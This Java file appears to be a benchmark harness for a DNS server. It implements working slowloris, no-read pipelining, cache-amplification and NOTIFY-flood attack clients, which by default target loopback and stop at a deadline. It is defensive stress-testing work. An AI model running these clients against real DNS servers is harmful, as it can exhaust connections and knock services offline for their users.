import java.io.DataInputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.net.StandardSocketOptions;
import java.nio.ByteBuffer;
import java.nio.channels.DatagramChannel;
import java.nio.channels.SocketChannel;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.concurrent.atomic.AtomicLong;

/**
 * The attack clients of bench/attack-perf.sh, one mode per run, with nothing but a JDK (Java 11+
 * single-file launch: {@code java bench/attack/Attackers.java MODE key=value...}). DNS messages are
 * built by hand. Every loop ends at the deadline ({@code seconds=}), and each mode prints one summary
 * line {@code attack MODE key=value...} when it stops.
 *
 * <ul>
 *   <li>{@code slowloris}: many TCP connections from several loopback sources, each dripping one byte
 *       of a frame that never completes every {@code drip} seconds; reopened when the server closes
 *       them.
 *   <li>{@code pipeline}: a few connections with a small receive buffer that pipeline queries for a
 *       large answer and never read.
 *   <li>{@code amplify}: TCP queries for a large answer with random letter case and random EDNS sizes,
 *       answers read (a cache-key amplifier).
 *   <li>{@code notify}: UDP NOTIFYs for a zone at a fixed rate, from the primary's address and from
 *       other loopback addresses.
 * </ul>
 *
 * Common options: {@code host} (127.0.0.1), {@code port}, {@code seconds}.
 */
public final class Attackers {
  private static final int TYPE_SOA = 6;
  private static final int TYPE_TXT = 16;
  private static final int OPCODE_NOTIFY = 4;

  public static void main(String[] args) throws Exception {
    if (args.length < 1) {
      System.err.println("usage: java Attackers.java slowloris|pipeline|amplify|notify port=N seconds=N [key=value...]");
      System.exit(2);
    }
    Options options = new Options(args);
    if (args[0].equals("slowloris")) {
      slowloris(options);
    } else if (args[0].equals("pipeline")) {
      pipeline(options);
    } else if (args[0].equals("amplify")) {
      amplify(options);
    } else if (args[0].equals("notify")) {
      notifyFlood(options);
    } else {
      System.err.println("unknown mode " + args[0]);
      System.exit(2);
    }
  }

  /**
   * Slowloris: {@code connections} (1000) spread over {@code sources} (10) addresses from {@code
   * first-source} (127.0.0.2) on; each gets one byte every {@code drip} (5) seconds of a frame that
   * announces 512 bytes, so no message ever completes.
   */
  static void slowloris(Options o) throws Exception {
    InetSocketAddress target = o.target();
    long deadline = o.deadline();
    int count = o.integer("connections", 1000);
    List<InetAddress> sources = o.sources("first-source", "127.0.0.2", o.integer("sources", 10));
    long dripNanos = (long) (o.decimal("drip", 5) * 1e9);
    byte[] frame = frame(query(1, "drip.invalid", TYPE_SOA, -1), 512);
    SocketChannel[] channels = new SocketChannel[count];
    int[] position = new int[count];
    long opened = 0, failed = 0, closedByServer = 0, bytes = 0;
    int peakOpen = 0;
    ByteBuffer scratch = ByteBuffer.allocate(4096);
    // The connections are visited in slices, one slice per tick, so each is dripped on once a period.
    int slices = (int) Math.max(1, dripNanos / 100_000_000L);
    long tickNanos = dripNanos / slices;
    long nextTick = System.nanoTime();
    for (long tick = 0; System.nanoTime() < deadline; tick++) {
      int open = 0;
      for (int i = 0; i < count && System.nanoTime() < deadline; i++) {
        if (channels[i] == null) {
          // First pass: open everything at once; later, reopen a closed one at its slice's turn.
          if (tick > 0 && i % slices != tick % slices) {
            continue;
          }
          channels[i] = connect(sources.get(i % sources.size()), target);
          if (channels[i] == null) {
            failed++;
            continue;
          }
          opened++;
          position[i] = 0;
        }
        if (tick > 0 && i % slices != tick % slices) {
          open++;
          continue;
        }
        try {
          scratch.clear();
          if (channels[i].read(scratch) < 0) {
            throw new IOException("closed by server");
          }
          if (channels[i].write(ByteBuffer.wrap(frame, position[i] % frame.length, 1)) == 1) {
            position[i]++;
            bytes++;
          }
          open++;
        } catch (IOException closed) {
          closedByServer++;
          closeQuietly(channels[i]);
          channels[i] = null;
        }
      }
      peakOpen = Math.max(peakOpen, open);
      nextTick += tickNanos;
      sleepUntil(Math.min(nextTick, deadline));
    }
    int openAtEnd = 0;
    for (SocketChannel channel : channels) {
      if (channel != null) {
        openAtEnd++;
        closeQuietly(channel);
      }
    }
    report("slowloris", "connections", count, "sources", sources.size(), "opened", opened, "connect_failed", failed,
        "closed_by_server", closedByServer, "peak_open", peakOpen, "open_at_end", openAtEnd, "bytes_dripped", bytes);
  }

  /**
   * No-read pipeliner: {@code connections} (4) with a receive buffer of {@code rcvbuf} (4096) bytes,
   * each writing up to {@code queries} (100000) queries for {@code qname} {@code qtype} (TXT) and never
   * reading; one the server closes is opened again. Writes are non-blocking, so a full send queue
   * only makes the loop wait. "Written" counts queries handed to the kernel, not read by the server.
   */
  static void pipeline(Options o) throws Exception {
    InetSocketAddress target = o.target();
    long deadline = o.deadline();
    int count = o.integer("connections", 4);
    int limit = o.integer("queries", 100_000);
    int receiveBuffer = o.integer("rcvbuf", 4096);
    String qname = o.text("qname", "big.bench.example");
    int qtype = o.integer("qtype", TYPE_TXT);
    InetAddress source = InetAddress.getByName(o.text("source", "127.0.0.1"));
    SocketChannel[] channels = new SocketChannel[count];
    long[] written = new long[count];
    ByteBuffer[] pending = new ByteBuffer[count];
    long total = 0, opened = 0, closedByServer = 0, mostOnOne = 0;
    while (System.nanoTime() < deadline) {
      boolean progress = false;
      for (int i = 0; i < count; i++) {
        if (channels[i] == null) {
          channels[i] = connect(source, target, receiveBuffer);
          if (channels[i] == null) {
            continue;
          }
          opened++;
          written[i] = 0;
          pending[i] = null;
        }
        while (written[i] < limit) {
          if (pending[i] == null || !pending[i].hasRemaining()) {
            pending[i] = ByteBuffer.wrap(frame(query((int) written[i], qname, qtype, 4096), -1));
          }
          try {
            channels[i].write(pending[i]);
          } catch (IOException e) {
            closedByServer++;
            closeQuietly(channels[i]);
            channels[i] = null;
            break;
          }
          if (pending[i].hasRemaining()) {
            break; // send queue full
          }
          written[i]++;
          total++;
          mostOnOne = Math.max(mostOnOne, written[i]);
          progress = true;
        }
      }
      if (!progress) {
        sleepUntil(Math.min(System.nanoTime() + 50_000_000L, deadline));
      }
    }
    for (SocketChannel channel : channels) {
      closeQuietly(channel);
    }
    report("pipeline", "connections", count, "opened", opened, "closed_by_server", closedByServer,
        "queries_written", total, "most_on_one_connection", mostOnOne);
  }

  /**
   * Cache amplifier: {@code connections} (4) TCP connections, each sending {@code window} (8) queries
   * at a time for {@code qname} {@code qtype} (TXT) with the name's letters in random case and a random
   * EDNS payload size (512-65535), then reading their answers.
   */
  static void amplify(Options o) throws Exception {
    InetSocketAddress target = o.target();
    long deadline = o.deadline();
    int count = o.integer("connections", 4);
    int window = o.integer("window", 8);
    String qname = o.text("qname", "big.bench.example");
    int qtype = o.integer("qtype", TYPE_TXT);
    AtomicLong sent = new AtomicLong(), answered = new AtomicLong(), bytes = new AtomicLong(),
        connects = new AtomicLong();
    List<Thread> threads = new ArrayList<>();
    for (int t = 0; t < count; t++) {
      Random random = new Random(t);
      Thread thread = new Thread(() -> {
        while (System.nanoTime() < deadline) {
          try (Socket socket = new Socket()) {
            socket.connect(target, 1000);
            socket.setSoTimeout(500);
            connects.incrementAndGet();
            OutputStream out = socket.getOutputStream();
            DataInputStream in = new DataInputStream(socket.getInputStream());
            while (System.nanoTime() < deadline) {
              for (int q = 0; q < window; q++) {
                out.write(frame(query(random.nextInt(65536), randomCase(qname, random), qtype,
                    512 + random.nextInt(65536 - 512)), -1));
              }
              out.flush();
              sent.addAndGet(window);
              for (int q = 0; q < window; q++) {
                int length = readShort(in, deadline);
                byte[] message = new byte[length];
                readFully(in, message, deadline);
                answered.incrementAndGet();
                bytes.addAndGet(length + 2);
              }
            }
          } catch (IOException | DeadlineException e) {
            sleepUntil(Math.min(System.nanoTime() + 100_000_000L, deadline)); // closed or stuck: reconnect
          }
        }
      });
      thread.start();
      threads.add(thread);
    }
    for (Thread thread : threads) {
      thread.join();
    }
    report("amplify", "connections", count, "connects", connects.get(), "queries_sent", sent.get(), "answered",
        answered.get(), "answer_bytes", bytes.get());
  }

  /**
   * NOTIFY flood: {@code rate} (10000) NOTIFYs a second for {@code zone} (bench.example), alternately
   * from {@code primary} (127.0.0.1, the address a primary has) and from {@code others} (10) other
   * addresses from {@code first-other} (127.0.0.12) on. Answers are counted by source kind and rcode.
   */
  static void notifyFlood(Options o) throws Exception {
    InetSocketAddress target = o.target();
    long deadline = o.deadline();
    int rate = o.integer("rate", 10_000);
    String zone = o.text("zone", "bench.example");
    List<InetAddress> addresses = new ArrayList<>();
    addresses.add(InetAddress.getByName(o.text("primary", "127.0.0.1")));
    addresses.addAll(o.sources("first-other", "127.0.0.12", o.integer("others", 10)));
    List<DatagramChannel> channels = new ArrayList<>();
    for (InetAddress address : addresses) {
      DatagramChannel channel = DatagramChannel.open();
      channel.setOption(StandardSocketOptions.SO_RCVBUF, 1 << 20);
      channel.bind(new InetSocketAddress(address, 0));
      channel.connect(target);
      channel.configureBlocking(false);
      channels.add(channel);
    }
    Map<String, Long> answers = new HashMap<>();
    long[] sentBy = new long[2];
    ByteBuffer in = ByteBuffer.allocate(65535);
    Random random = new Random(1);
    long start = System.nanoTime(), sent = 0, sendErrors = 0;
    int other = 0;
    while (System.nanoTime() < deadline) {
      long due = (System.nanoTime() - start) * rate / 1_000_000_000L;
      for (; sent < due && System.nanoTime() < deadline; sent++) {
        // Every other NOTIFY from the primary's address, the rest round-robin over the others.
        int index = sent % 2 == 0 || channels.size() == 1 ? 0 : 1 + other++ % (channels.size() - 1);
        byte[] message = message(random.nextInt(65536), (OPCODE_NOTIFY << 11) | 0x0400, zone, TYPE_SOA, -1);
        try {
          channels.get(index).write(ByteBuffer.wrap(message));
          sentBy[index == 0 ? 0 : 1]++;
        } catch (IOException e) {
          sendErrors++;
        }
      }
      for (int i = 0; i < channels.size(); i++) {
        in.clear();
        while (readQuietly(channels.get(i), in) > 0) {
          String key = (i == 0 ? "primary_" : "other_") + rcodeName(in.get(3) & 0x0f);
          answers.merge(key, 1L, Long::sum);
          in.clear();
        }
      }
      sleepUntil(Math.min(System.nanoTime() + 5_000_000L, deadline));
    }
    channels.forEach(Attackers::closeQuietly);
    List<Object> fields = new ArrayList<>(List.of("rate", rate, "sent_from_primary", sentBy[0], "sent_from_others",
        sentBy[1], "send_errors", sendErrors));
    answers.entrySet().stream().sorted(Map.Entry.comparingByKey()).forEach(e -> {
      fields.add("answered_" + e.getKey());
      fields.add(e.getValue());
    });
    report("notify", fields.toArray());
  }

  // ---- DNS messages, by hand ----

  /** A query with RD clear; with an OPT record advertising {@code ednsSize} unless it is negative. */
  static byte[] query(int id, String qname, int qtype, int ednsSize) {
    return message(id, 0, qname, qtype, ednsSize);
  }

  static byte[] message(int id, int flags, String qname, int qtype, int ednsSize) {
    ByteBuffer b = ByteBuffer.allocate(512);
    b.putShort((short) id).putShort((short) flags).putShort((short) 1).putShort((short) 0).putShort((short) 0)
        .putShort((short) (ednsSize < 0 ? 0 : 1));
    for (String label : qname.split("\\.")) {
      if (!label.isEmpty()) {
        b.put((byte) label.length()).put(label.getBytes(java.nio.charset.StandardCharsets.US_ASCII));
      }
    }
    b.put((byte) 0).putShort((short) qtype).putShort((short) 1);
    if (ednsSize >= 0) {
      b.put((byte) 0).putShort((short) 41).putShort((short) ednsSize).putInt(0).putShort((short) 0);
    }
    byte[] out = new byte[b.position()];
    b.flip().get(out);
    return out;
  }

  /** The RFC 7766 frame of {@code message}: its length, or {@code announced} when that is larger. */
  static byte[] frame(byte[] message, int announced) {
    int length = Math.max(message.length, announced);
    byte[] out = new byte[2 + length];
    out[0] = (byte) (length >> 8);
    out[1] = (byte) length;
    System.arraycopy(message, 0, out, 2, message.length);
    return out;
  }

  static String randomCase(String name, Random random) {
    StringBuilder out = new StringBuilder(name.length());
    for (char c : name.toCharArray()) {
      out.append(random.nextBoolean() ? Character.toUpperCase(c) : Character.toLowerCase(c));
    }
    return out.toString();
  }

  static String rcodeName(int rcode) {
    String[] names = {"noerror", "formerr", "servfail", "nxdomain", "notimp", "refused", "yxdomain", "yxrrset",
        "nxrrset", "notauth"};
    return rcode < names.length ? names[rcode] : "rcode" + rcode;
  }

  // ---- sockets and time ----

  /** Thrown when a blocking read is still waiting at the deadline. */
  static final class DeadlineException extends Exception {
    private static final long serialVersionUID = 1L;

    DeadlineException() {
      super(null, null, false, false);
    }
  }

  static int readShort(DataInputStream in, long deadline) throws IOException, DeadlineException {
    byte[] two = new byte[2];
    readFully(in, two, deadline);
    return ((two[0] & 0xff) << 8) | (two[1] & 0xff);
  }

  /** Reads all of {@code into}, waiting in short timeouts so the deadline is noticed. */
  static void readFully(DataInputStream in, byte[] into, long deadline) throws IOException, DeadlineException {
    int done = 0;
    while (done < into.length) {
      try {
        int n = in.read(into, done, into.length - done);
        if (n < 0) {
          throw new IOException("closed by server");
        }
        done += n;
      } catch (SocketTimeoutException e) {
        if (System.nanoTime() >= deadline) {
          throw new DeadlineException();
        }
      }
    }
  }

  static SocketChannel connect(InetAddress source, InetSocketAddress target) {
    return connect(source, target, 0);
  }

  /** A non-blocking channel from {@code source}, or null; {@code receiveBuffer} 0 keeps the default. */
  static SocketChannel connect(InetAddress source, InetSocketAddress target, int receiveBuffer) {
    SocketChannel channel = null;
    try {
      channel = SocketChannel.open();
      if (receiveBuffer > 0) {
        channel.setOption(StandardSocketOptions.SO_RCVBUF, receiveBuffer); // before connect: it sets the window
      }
      channel.bind(new InetSocketAddress(source, 0));
      channel.socket().connect(target, 1000);
      channel.configureBlocking(false);
      return channel;
    } catch (IOException e) {
      closeQuietly(channel);
      return null;
    }
  }

  static int readQuietly(DatagramChannel channel, ByteBuffer into) {
    try {
      return channel.read(into);
    } catch (IOException e) {
      return 0; // e.g. ICMP port unreachable reported on a connected channel
    }
  }

  static void closeQuietly(java.io.Closeable closeable) {
    try {
      if (closeable != null) {
        closeable.close();
      }
    } catch (IOException ignored) {
      // closing at the end of an attack: nothing to do
    }
  }

  static void sleepUntil(long nanoTime) {
    long wait = nanoTime - System.nanoTime();
    if (wait > 0) {
      try {
        Thread.sleep(wait / 1_000_000L, (int) (wait % 1_000_000L));
      } catch (InterruptedException e) {
        Thread.currentThread().interrupt();
      }
    }
  }

  static void report(String mode, Object... fields) {
    StringBuilder line = new StringBuilder("attack ").append(mode);
    for (int i = 0; i + 1 < fields.length; i += 2) {
      line.append(' ').append(fields[i]).append('=').append(fields[i + 1]);
    }
    System.out.println(line);
  }

  /** {@code key=value} arguments after the mode. */
  static final class Options {
    private final Map<String, String> values = new HashMap<>();

    Options(String[] args) {
      for (int i = 1; i < args.length; i++) {
        int eq = args[i].indexOf('=');
        if (eq <= 0) {
          throw new IllegalArgumentException("expected key=value: " + args[i]);
        }
        values.put(args[i].substring(0, eq), args[i].substring(eq + 1));
      }
    }

    String text(String key, String fallback) {
      return values.getOrDefault(key, fallback);
    }

    int integer(String key, int fallback) {
      return values.containsKey(key) ? Integer.parseInt(values.get(key)) : fallback;
    }

    double decimal(String key, double fallback) {
      return values.containsKey(key) ? Double.parseDouble(values.get(key)) : fallback;
    }

    InetSocketAddress target() throws IOException {
      if (!values.containsKey("port")) {
        throw new IllegalArgumentException("port= is required");
      }
      return new InetSocketAddress(InetAddress.getByName(text("host", "127.0.0.1")), integer("port", 0));
    }

    long deadline() {
      if (!values.containsKey("seconds")) {
        throw new IllegalArgumentException("seconds= is required");
      }
      return System.nanoTime() + (long) (decimal("seconds", 0) * 1e9);
    }

    /** {@code count} consecutive IPv4 addresses from the one named by {@code key}. */
    List<InetAddress> sources(String key, String fallback, int count) throws IOException {
      byte[] first = InetAddress.getByName(text(key, fallback)).getAddress();
      List<InetAddress> out = new ArrayList<>();
      for (int i = 0; i < count; i++) {
        byte[] address = first.clone();
        address[3] = (byte) ((first[3] & 0xff) + i);
        out.add(InetAddress.getByAddress(address));
      }
      return out;
    }
  }
}
